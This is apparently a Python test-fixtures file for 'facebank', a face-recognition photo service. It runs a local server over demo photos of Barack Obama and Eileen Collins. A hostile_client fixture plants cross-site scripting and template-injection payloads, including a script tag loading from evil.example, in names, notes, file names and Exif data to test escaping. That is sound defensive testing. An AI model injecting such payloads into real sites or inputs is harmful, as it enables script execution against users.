"""Fixtures of the service tests: a real service on a free local port with the people of the demo."""

from __future__ import annotations

import os
import re
import resource
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any, NoReturn
from urllib.parse import urlsplit

import httpx
import pytest
from PIL import Image, ImageOps

from facebank import FaceBank
from facebank.service.application import make_app
from facebank.service.options import ServiceOptions
from facebank.service.server import Server, listen
from tests.demo_photos import COLLINS, DEMO_PHOTOS, OBAMA

BARACK, EILEEN = OBAMA, COLLINS

FILE_NAMES = (BARACK.name, EILEEN.name)

NETWORK = ServiceOptions(hosts=("photos.home",))
"""Options of a service for a network, which needs a key."""

TOKEN = "a-token-of-more-than-twenty-characters"

HOSTILE_NAME = "<script src=//evil.example/x.js></script>\"'><img src=x onerror=alert(1)>{{7*7}}"
"""A name that would run a script if it were not escaped."""

Serve = Callable[..., httpx.Client]


@contextmanager
def run_service(bank: FaceBank, options: ServiceOptions, token: str | None = None) -> Iterator[str]:
    """Serve a bank during the block and yield its URL."""
    with listen(replace(options, port=0)) as listener:
        server = Server(make_app(bank, options, token))
        thread = threading.Thread(target=server.run, args=([listener],))
        thread.start()
        try:
            while not server.started:
                assert thread.is_alive()
                time.sleep(0.01)
            yield f"http://127.0.0.1:{listener.getsockname()[1]}"
        finally:
            server.should_exit = True
            thread.join()


@pytest.fixture(scope="session")
def demo_gallery(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A gallery of Barack and Eileen with one photo each."""
    path = tmp_path_factory.mktemp("service") / "demo.facebank"
    with FaceBank.open(path, device="cpu", threads=1) as bank:
        bank.enroll("Barack", BARACK)
        bank.enroll("Eileen", EILEEN)
    return path


@pytest.fixture
def gallery(demo_gallery: Path, tmp_path: Path) -> Path:
    """A copy of the demo gallery."""
    path = tmp_path / "family.facebank"
    path.write_bytes(demo_gallery.read_bytes())
    return path


@pytest.fixture
def serve(gallery: Path) -> Iterator[Serve]:
    """A function that serves the gallery with options and returns a client."""
    with ExitStack() as opened:

        def start(options: ServiceOptions | None = None, token: str | None = None) -> httpx.Client:
            bank = opened.enter_context(FaceBank.open(gallery, device="cpu", threads=1))
            url = opened.enter_context(run_service(bank, options or ServiceOptions(), token))
            return opened.enter_context(httpx.Client(base_url=url, timeout=60.0, trust_env=False))

        yield start


@pytest.fixture
def client(serve: Serve) -> httpx.Client:
    """Client of a service that accepts local connections only."""
    return serve()


@pytest.fixture
def album(tmp_path: Path) -> Path:
    """A folder with two photos of the demo."""
    folder = tmp_path / "Pictures"
    (folder / "2012").mkdir(parents=True)
    for name in FILE_NAMES:
        shutil.copy(DEMO_PHOTOS / name, folder / "2012" / name)
    return folder


def wait_for_scan(client: httpx.Client) -> dict[str, object]:
    """Wait for the end of a scan and return its state."""
    for _ in range(600):
        state: dict[str, object] = client.get("/api/v1/album/scan").json()
        if state["status"] != "running":
            return state
        time.sleep(0.05)
    raise AssertionError(state)


@pytest.fixture(scope="session")
def scanned_album(demo_gallery: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Paths of an album of the demo photos and of its scan."""
    folder = tmp_path_factory.mktemp("page") / "album"
    shutil.copytree(DEMO_PHOTOS, folder)
    own_gallery = shutil.copy(demo_gallery, folder.with_suffix(".facebank"))  # the gallery records the path of its scan
    with FaceBank.open(own_gallery, device="cpu", threads=1) as bank, bank.album() as album:
        album.scan(folder)
    return folder, folder.with_suffix(".scan")


@pytest.fixture
def family(serve: Serve, gallery: Path, scanned_album: tuple[Path, Path]) -> httpx.Client:
    """Client of a service with a scanned and identified album."""
    folder, scan_path = scanned_album
    shutil.copy(scan_path, gallery.with_suffix(".scan"))
    return wait_for_photos(serve(ServiceOptions(albums=(folder,))), [3, 1])


@pytest.fixture
def own_album(tmp_path: Path, gallery: Path) -> Path:
    """An album of one photo that tests may change."""
    folder = tmp_path / "own"
    folder.mkdir()
    shutil.copy(DEMO_PHOTOS / "barack_obama_speech.jpg", folder)
    with FaceBank.open(gallery, device="cpu", threads=1) as bank, bank.album() as opened_album:
        opened_album.scan(folder)
    return folder


def write_pair(path: Path) -> Path:
    """Write a photo of Barack and Joe, who is not enrolled, and return its path."""
    pair = Image.new("RGB", (1200, 600))
    for index, name in enumerate(("joe_biden_blue_room", "barack_obama_speech")):
        with Image.open(DEMO_PHOTOS / f"{name}.jpg") as image:
            pair.paste(ImageOps.pad(image, (600, 600)), (600 * index, 0))
    pair.save(path, quality=95)
    return path


def photo_hash(client: httpx.Client, name: str) -> str:
    """Return the hash of an album photo by its file name."""
    for number in (1, 2):
        match = re.search(rf'/photos/([0-9a-f]{{64}})"><img [^>]*alt="{name}', client.get(f"/people/{number}").text)
        if match:
            return match[1]
    raise AssertionError(name)


def wait_for_question(client: httpx.Client) -> dict[str, Any]:
    """Wait for a question of the page, and return the first."""
    for _ in range(300):
        question: dict[str, Any] | None = client.post("/who/next", json={}).json()["question"]
        if question is not None:
            return question
        time.sleep(0.02)
    raise AssertionError("no question")


def wait_for_text(client: httpx.Client, url: str, text: str) -> str:
    """Return a page as soon as it contains a text."""
    for _ in range(600):
        page = client.get(url).text
        if text in page:
            return page
        time.sleep(0.05)
    raise AssertionError(page)


def wait_for_photos(client: httpx.Client, photos: Sequence[int] = (1,)) -> httpx.Client:
    """Wait until the people page shows these numbers of photos above 0, and return the client."""
    for _ in range(1_500):
        if [int(count) for count in re.findall(r">([1-9]\d*) photos?<", client.get("/").text)] == list(photos):
            return client
        time.sleep(0.02)
    raise AssertionError(client.get("/").text)


@pytest.fixture
def hostile_client(serve: Serve, gallery: Path, tmp_path: Path) -> httpx.Client:
    """Client of a service with HTML in names of people, notes, files and folders, and in Exif data."""
    name = HOSTILE_NAME.replace("/", "\N{DIVISION SLASH}")
    folder = tmp_path / "album" / name
    folder.mkdir(parents=True)
    for path in (BARACK, EILEEN, DEMO_PHOTOS / "joe_biden_blue_room.jpg"):
        exif = Image.Exif()
        exif.update({270: HOSTILE_NAME, 315: HOSTILE_NAME, 306: "2012:01:01 00:00:00"})
        exif.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 29.0), 3: "E", 4: (2.0, 17.0, 40.0)})
        with Image.open(path) as image:
            image.save(folder / f"{path.stem[:8]}{name[:100]}.jpg", exif=exif, comment=HOSTILE_NAME, quality=95)
    with FaceBank.open(gallery, device="cpu", threads=1) as bank:
        bank.rename("Barack", HOSTILE_NAME.replace("/", "|")[:190])
        bank.rename("Eileen", "'; alert(1) </title><svg onload=alert(1)>"[:190].replace("/", "|"))
        bank.gallery.describe("'; alert(1) </title><svg onload=alert(1)>".replace("/", "|"), note=HOSTILE_NAME)
    client = serve(ServiceOptions(albums=(tmp_path / "album",)))
    client.post("/api/v1/album/scan")
    assert wait_for_scan(client)["report"]["unreadable"] == 0  # type: ignore[index]
    return wait_for_photos(client, [1, 1])


def send_raw(url: str, data: bytes, *, timeout: float = 20.0) -> bytes:
    """Send bytes to a service and return its complete response."""
    parts = urlsplit(url)
    with socket.create_connection((parts.hostname or "", parts.port or 0), timeout=timeout) as connection:
        connection.sendall(data)
        response = b""
        while chunk := connection.recv(65536):
            response += chunk
    return response


@contextmanager
def full_disk() -> Iterator[None]:
    """Limit the size of written files to 4 KiB within the block, so that writing fails as on a full disk."""
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, limits[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)


def skip_or_fail(reason: str) -> NoReturn:
    """Skip the test with a reason; in CI, fail."""
    if os.environ.get("FACEBANK_CI"):
        pytest.fail(reason)
    pytest.skip(reason)
